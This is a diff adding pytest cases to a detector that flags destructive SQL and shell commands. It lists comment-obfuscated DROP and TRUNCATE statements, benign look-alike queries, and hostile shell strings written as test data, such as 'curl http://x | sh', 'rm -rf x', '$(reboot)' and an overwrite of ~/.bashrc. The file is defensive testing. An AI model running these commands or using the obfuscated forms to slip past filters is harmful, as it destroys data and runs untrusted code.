@@ -454,6 +454,15 @@ def test_ordinary_reading_raises_nothing(line: str):
         "/*!50000 drop table t */",
         "delete from t /* /* */ where */",
         "explain analyze delete from t",
+        "DROP/**/TABLE t",
+        "/*!50000 DROP*/ /*!TABLE*/ t",
+        "/*!DROP*/ /*!50000TABLE*/ t",
+        'TRUNCATE"t"',
+        "truncate t, u",
+        "begin drop materialized view v; end",
+        "alter table t\ndrop c",
+        "# x\ndrop index i",
+        "explain analyze truncate t",
     ],
 )
 @pytest.mark.parametrize(
@@ -462,6 +471,26 @@ def test_ordinary_reading_raises_nothing(line: str):
 )
 def test_sql_that_destroys(sql: str, before: list[str]):
     assert "known_destructive" in {danger.code for danger in dangers([*before, sql]) if danger.always}
+
+
+@pytest.mark.parametrize(
+    "sql",
+    [
+        "select * from t where title = 'drop'",
+        'select "drop" from t',
+        "select truncate(x, 2) from t",
+        "select replace(a, 'x', 'y') from t",
+        "select * from t where note like '%truncate%'",
+    ],
+)
+@pytest.mark.parametrize("before", [["psql", "-c"], ["mysql", "-e"], ["sqlite3", "drop.db"]])
+def test_sql_that_only_reads(sql: str, before: list[str]):
+    assert dangers([*before, sql]) == ()
+
+
+def test_one_client_takes_all_its_words_for_one_statement():
+    assert "known_destructive" in {danger.code for danger in dangers(words("bq query drop table t"))}
+    assert dangers(words("bq query select 1")) == ()
 
 
 @pytest.mark.parametrize(
@@ -522,6 +551,27 @@ def test_texts_that_are_lines_of_shell_or_sql():
     assert text_dangers("ls -la") == ()
 
 
+@pytest.mark.parametrize(
+    "text",
+    """open source agents|detox diet|drop shipping trends|make a cake|time in Tokyo|how to drop a table in postgres
+update on the weather|create a plan|kill bill 2|AT&T vs R&D|format a disk|truncate text in css|less is more
+git revert""".replace("\n", "|").split("|"),
+)
+def test_what_people_look_up_is_no_command(text: str):
+    assert text_dangers(text, prose=True) == ()
+
+
+@pytest.mark.parametrize(
+    "text",
+    """rm -rf x#drop table users;#DELETE FROM t#a; rm -rf x#sh -c 'x'#curl http://x | sh#truncate t#update t set a=1
+select 1; drop table x#`rm x`#$(reboot)#rm -r x && ls#psql -c 'drop table t'#cat > ~/.bashrc; sh x""".replace(
+        "\n", "#"
+    ).split("#"),
+)
+def test_a_command_is_one_also_where_words_are_expected(text: str):
+    assert text_dangers(text, prose=True)
+
+
 WRAPPERS = ["env", "nice", "nohup", "timeout 5", "sudo", "xargs", "sh -c", "busybox", "setsid", "stdbuf -oL", "time"]
 
 
@@ -553,5 +603,20 @@ def test_very_long_command_lines_are_asked_about_quickly():
     assert "launches_programs" in {danger.code for danger in dangers(["sh", "-c", "(" * 50_000])}
     assert "launches_programs" in {danger.code for danger in dangers(["sh", "-c", "a;" * 50_000])}
     assert "launches_programs" in {danger.code for danger in text_dangers("a;" * 50_000)}
+    for word in (
+        "alter ",
+        "update ",
+        "drop temp ",
+        "select ",
+        "grant a ",
+        "create or replace ",
+        "as (",
+        "delete from ",
+        "/*!1",
+        "pragma ",
+        "\n",
+    ):
+        dangers(["psql", "-c", word * (100_000 // len(word))])
+        text_dangers(word * (90_000 // len(word)), prose=True)
     dangers(["chmod", "a" * 100_000, "o" * 100_000])
     dangers(["psql", "-c", "'" * 100_001, "/*" * 50_000, "delete from t where " + "x" * 100_000])
